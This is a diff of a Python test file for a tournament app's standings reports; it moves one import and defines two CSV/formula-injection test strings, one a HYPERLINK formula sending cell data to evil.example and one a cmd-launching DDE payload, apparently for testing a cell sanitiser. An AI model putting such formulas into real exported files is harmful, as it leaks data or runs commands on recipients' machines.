@@ -13,10 +13,10 @@ from openpyxl import load_workbook
 from rest_framework.test import APIClient
 
 from tests.factories import make_club_organiser, make_evening
+from tournaments.events.entries import scoresheet_import
 from tournaments.reports import standings
 from tournaments.reports.cells import cell_safe
 from tournaments.reports.data import Column, StandingLine, StandingsSheet, TournamentInfo
-from tournaments.services import scoresheet_import
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
